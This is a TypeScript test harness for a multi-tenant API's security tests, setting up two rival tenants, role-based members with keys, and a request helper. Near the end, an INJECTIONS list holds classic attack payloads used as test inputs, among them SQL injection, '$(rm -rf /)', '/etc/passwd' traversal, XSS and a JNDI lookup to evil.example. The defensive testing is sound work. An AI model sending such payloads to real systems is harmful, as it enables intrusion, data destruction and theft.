import { Writable } from 'node:stream';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyBaseLogger, FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify';
import { pino } from 'pino';
import { buildApiServer } from '../../src/api/server.js';
import { type Application, createApplication } from '../../src/app/application.js';
import { startSweeper, startWorker } from '../../src/app/service-runtime.js';
import { cliActor } from '../../src/auth/actor.js';
import { ensureBootstrap } from '../../src/auth/bootstrap.js';
import { createKey } from '../../src/auth/key-service.js';
import { addMember } from '../../src/auth/member-service.js';
import { ROLES, type Role } from '../../src/auth/roles.js';
import { loadConfig } from '../../src/config/load.js';
import type { Clock } from '../../src/core/clock.js';
import type { RateLimitStore } from '../../src/core/ports/rate-limit-store.js';
import { silentLogger } from '../../src/core/logger.js';

/** A clock tests can move forward: expiry of keys and tokens without waiting. */
export class MovableClock implements Clock {
  offsetMs = 0;
  now(): Date {
    return new Date(Date.now() + this.offsetMs);
  }
  advance(ms: number): void {
    this.offsetMs += ms;
  }

  /** Fixed windows: start just after a minute boundary, so no window rolls over mid-test. */
  alignToMinute(): void {
    const now = this.now().getTime();
    this.advance(60_000 - (now % 60_000) + 500);
  }
}

export const PASSWORD = 'correct horse battery staple';

export interface Member {
  userId: string;
  email: string;
  key: string;
  keyId: string;
}

export interface TenantFixture {
  id: string;
  members: Record<Role, Member>;
  runId: string;
  reportId: string;
}

export interface SecurityHarnessOptions {
  environment?: Record<string, string>;
  overrides?: Record<string, unknown>;
  /** Submit one finished analysis per tenant (ids in `runId`/`reportId`). */
  seedRuns?: boolean;
  loggerInstance?: FastifyBaseLogger;
  worker?: boolean;
  /** Counters for limits and quotas (the Redis adapter in integration tests); memory otherwise. */
  limits?: RateLimitStore;
}

/**
 * Two tenants (`local`, bootstrapped like a first `serve`, and `rival`), each with one member
 * of every role holding an API key and a password, and optionally one finished run and report
 * each — the cast of every attack in this folder.
 */
export async function securityHarness(options: SecurityHarnessOptions = {}) {
  const dataDir = mkdtempSync(join(tmpdir(), 'consultantos-security-'));
  const config = loadConfig({
    environment: { CONSULTANTOS_DATA_DIR: dataDir, CONSULTANTOS_SSE_HEARTBEAT_MS: '200', CONSULTANTOS_SWEEP_INTERVAL_MS: '200', ...options.environment },
    cwd: dataDir,
    // Generous address limits by default: every test client shares 127.0.0.1; limit tests lower them.
    overrides: { 'security.cookieSecure': false, 'security.ipRequestsPerMinute': 100_000, 'security.authFailuresPerMinute': 1_000, ...options.overrides },
  });
  const clock = new MovableClock();
  const app: Application = await createApplication(config, { logger: silentLogger, clock });
  const services = app.security;
  if (options.limits) services.limits = options.limits;
  await ensureBootstrap(services, { issueKey: false });
  await services.identities.createTenant({ id: 'rival', name: 'Rival', tier: 'enterprise', createdAt: clock.now().toISOString(), disabledAt: null });

  async function seedTenant(tenantId: string): Promise<TenantFixture> {
    const actor = cliActor(tenantId, 'test');
    const members = {} as Record<Role, Member>;
    for (const role of ROLES) {
      const email = `${role}@${tenantId}.test`;
      const member = await addMember(services, actor, { email, role, password: PASSWORD });
      const created = await createKey(services, actor, { name: `${role} key`, scopes: ['*'], userId: member.userId });
      members[role] = { userId: member.userId, email, key: created.key, keyId: created.record.id };
    }
    return { id: tenantId, members, runId: '', reportId: '' };
  }
  const tenants = { local: await seedTenant('local'), rival: await seedTenant('rival') };
  if (options.worker !== false) await startWorker(app, { concurrency: 2 });
  const sweeper = startSweeper(app, config.server.sweepIntervalMs);
  const server: FastifyInstance = await buildApiServer(app, options.loggerInstance ? { loggerInstance: options.loggerInstance } : {});

  const as = (key: string, request: string | InjectOptions): Promise<LightMyRequestResponse> => {
    const options: InjectOptions = typeof request === 'string' ? { url: request } : request;
    return server.inject({ ...options, headers: { authorization: `Bearer ${key}`, ...(options.headers ?? {}) } });
  };

  if (options.seedRuns) {
    for (const tenant of Object.values(tenants)) {
      const response = await as(tenant.members.analyst.key, { method: 'POST', url: '/v1/analyses', payload: { company: `${tenant.id} Holdings`, frameworks: ['swot'], depth: 'quick' }, headers: { prefer: 'wait=30' } });
      const body = response.json() as { run: { id: string; reportId: string | null } };
      if (!body.run.reportId) throw new Error(`seed run of ${tenant.id} did not finish: ${response.body.slice(0, 300)}`);
      tenant.runId = body.run.id;
      tenant.reportId = body.run.reportId;
    }
  }

  return {
    app,
    config,
    clock,
    server,
    tenants,
    dataDir,
    as,
    /** Every audit entry of a tenant (newest first). */
    async auditOf(tenantId: string) {
      return (await services.audit.list(tenantId, { limit: 1_000 })).items;
    },
    async dispose() {
      sweeper.stop();
      await server.close();
      await app.close();
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

export type SecurityHarness = Awaited<ReturnType<typeof securityHarness>>;

/** No response may be a server error, whatever the attack. */
export function expectNo5xx(response: LightMyRequestResponse): void {
  if (response.statusCode >= 500) throw new Error(`5xx: ${response.statusCode} ${response.body.slice(0, 300)}`);
}

/** Classic payloads against SQL, shells, templates, HTML, headers, paths, JSON and Unicode handling. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE runs; --",
  '" OR ""="',
  '1; SELECT * FROM users',
  "admin'--",
  '%27%20OR%201%3D1',
  '$(rm -rf /)',
  '`cat /etc/passwd`',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '\u0000',
  'line\r\nSet-Cookie: pwned=1',
  '{"$gt": ""}',
  '__proto__',
  '\u202e\u0644\u0627',
  '🙂'.repeat(40),
  '=HYPERLINK("http://evil.example")',
  'a'.repeat(300),
];

/** A request logger whose lines are kept in `lines`, for tests that check what reaches the logs. */
export function capturingLogger(): { logger: FastifyBaseLogger; lines: string[] } {
  const lines: string[] = [];
  const sink = new Writable({
    write(chunk, _encoding, done) {
      lines.push(String(chunk));
      done();
    },
  });
  return { logger: pino({ level: 'info' }, sink) as unknown as FastifyBaseLogger, lines };
}
